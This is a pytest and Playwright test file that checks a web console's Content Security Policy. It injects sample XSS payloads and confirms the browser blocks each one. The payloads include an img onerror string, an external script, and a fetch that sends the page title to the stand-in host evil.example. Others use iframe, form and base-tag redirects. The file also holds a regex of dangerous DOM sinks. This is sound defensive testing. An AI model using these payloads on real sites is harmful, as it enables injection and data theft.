"""The console's policy bites: the browser stops what it forbids, and every other test would notice."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from playwright.async_api import Route

import sse_gateway.web
from tests.browser.console import Console
from tests.support.wait import until

STATIC = Path(sse_gateway.web.__file__).parent / "static"
SINKS = re.compile(
    r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write(ln)?|createContextualFragment|setHTMLUnsafe"
    r"|parseHTMLUnsafe|DOMParser|srcdoc|eval|Function|importScripts|execScript)\b(?!:)"
    r"|\b(setTimeout|setInterval)\(\s*[\"'`]|javascript:"
)
"""What makes markup or code out of text."""


@pytest.mark.parametrize("file", sorted(str(path.relative_to(STATIC)) for path in STATIC.rglob("*.*")))
def test_no_script_makes_markup_or_code_out_of_text(file: str) -> None:
    """No `innerHTML` and none of its relatives in any file that is served, and nothing inline."""
    text = (STATIC / file).read_text(encoding="utf-8")
    code = re.sub(r"/\*.*?\*/|(?<!:)//[^\n]*|<!--.*?-->", "", text, flags=re.DOTALL)
    assert not (found := SINKS.search(code)), found
    if file.endswith(".html"):
        assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\son\w+\s*=|\sstyle\s*=", code)


def test_the_search_for_sinks_finds_them() -> None:
    """The control of the search above."""
    for evil in (
        "a.innerHTML = b",
        "a.insertAdjacentHTML('beforeend', b)",
        "document.write(b)",
        "eval(b)",
        "new Function(b)",
        'setTimeout("b()", 1)',
        "new DOMParser().parseFromString(b)",
        "location = `javascript:${b}`",
    ):
        assert SINKS.search(evil), evil


ELEMENT = "const e = document.createElement('{}'); e.{} = '{}'; document.body.append(e)"
ATTACKS = {
    "a script of elsewhere": (
        "require-trusted-types-for",
        ELEMENT.format("script", "src", "//evil.example/x"),
    ),
    "a script in the page": ("require-trusted-types-for", ELEMENT.format("script", "text", "hacked = 1")),
    "markup": ("require-trusted-types-for", "document.body.innerHTML = '<img src=x onerror=hacked=1>'"),
    "a way round that": ("trusted-types", "trustedTypes.createPolicy('default', {})"),
    "an inline handler": (
        "require-trusted-types-for",
        "document.body.setAttribute('on' + 'click', 'hacked = 1')",
    ),
    "a connection elsewhere": (
        "connect-src",
        "fetch('https://evil.example/?' + document.title).catch(e => e)",
    ),
    "a picture elsewhere": ("img-src", "new Image().src = 'https://evil.example/x.png'"),
    "an inline style": ("style-src-elem", ELEMENT.format("style", "textContent", "*{display:none}")),
    "a style on an element": ("style-src-attr", "document.body.setAttribute('style', 'display:none')"),
    "a frame": ("frame-src", ELEMENT.format("iframe", "src", "https://evil.example/")),
    "a form": ("form-action", ELEMENT.format("form", "action", "https://evil.example/") + "; e.submit()"),
    "another base": ("base-uri", ELEMENT.format("base", "href", "https://evil.example/")),
}
"""What it tries → the directive that stops it, and how it tries."""


@pytest.mark.asyncio(loop_scope="session")
async def test_attack_by_markup_that_got_into_the_page(console: Console) -> None:
    """Whatever an injection would do next (code, connections, forms, frames, styles) the browser refuses."""
    console.forgiven = ("Content Security Policy", "The action has been blocked")
    left: list[str] = []

    async def leave(route: Route) -> None:
        left.append(route.request.url)
        await route.abort()

    await console.page.route("**://evil.example/**", leave)
    await console.open()
    await console.page.evaluate(
        "() => { window.violations = []; document.addEventListener('securitypolicyviolation', "
        "violation => window.violations.push(violation.effectiveDirective)) }"
    )
    for directive, attack in ATTACKS.values():
        await console.page.evaluate(f"() => {{ violations.length = 0; try {{ {attack} }} catch {{ 0 }} }}")
        await console.page.wait_for_function(
            f"() => violations.includes({json.dumps(directive)})", timeout=5000
        )
    assert await console.page.evaluate("() => window.hacked") is None
    assert left == []
    # Chromium tells of a picture's request before its policy stops it.
    assert {fault for fault in console.faults if "evil.example" in fault} <= {
        "another origin: https://evil.example/x.png"
    }
    console.faults.clear()


@pytest.mark.asyncio(loop_scope="session")
async def test_attack_by_framing_the_console(console: Console) -> None:
    """Clickjacking: nobody can lay the console's buttons under his own page."""
    console.forgiven = ("Content Security Policy", "404")
    await console.page.goto(f"{console.gateway.origin}/healthz")
    await console.page.evaluate(
        "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f) }",
        f"{console.gateway.base}/console",
    )
    frame = console.page.frames[1]
    await frame.wait_for_load_state()
    assert frame.url.startswith("chrome-error:")
    assert await frame.locator("main").count() == 0


@pytest.mark.asyncio(loop_scope="session")
async def test_a_violation_would_be_seen(console: Console) -> None:
    """The control: what the other tests of the console count as a fault does show up as one."""
    await console.open()
    await console.page.evaluate("() => document.body.setAttribute('style', 'color:red')")
    await until(
        lambda: any("Content Security Policy" in fault for fault in console.faults), "the fault to be noted"
    )
    console.faults.clear()
